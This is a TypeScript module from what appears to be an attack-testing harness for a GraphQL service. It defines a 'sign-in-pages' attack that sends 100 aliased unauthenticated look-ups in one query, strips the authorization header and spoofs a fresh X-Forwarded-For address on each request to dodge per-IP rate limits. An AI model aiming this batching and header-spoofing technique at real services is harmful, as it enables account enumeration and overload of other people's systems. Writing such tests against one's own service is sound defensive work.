import type { Attack } from './attack.ts';
import { graphqlRequest, sendRepeatedly } from './send-repeatedly.ts';

const fields = Array.from(
  { length: 100 },
  (_, index) => `a${index}: signInPages(email: "a${index}@demo.test") { subdomain }`,
);

export const signInPages: Attack = {
  id: 'sign-in-pages',
  description:
    '100 aliased look-ups of sales pages without a token in one request, each request from a different address',
  permissions: ['REDEEM_VOUCHER'],
  run(target) {
    let next = 0;
    return sendRepeatedly(target, () => {
      next += 1;
      const address = `10.${(next >> 16) & 255}.${(next >> 8) & 255}.${next & 255}`;
      const { headers, ...request } = graphqlRequest(`{ ${fields.join(' ')} }`);
      return { ...request, headers: { ...headers, authorization: '', 'x-forwarded-for': address } };
    });
  },
};
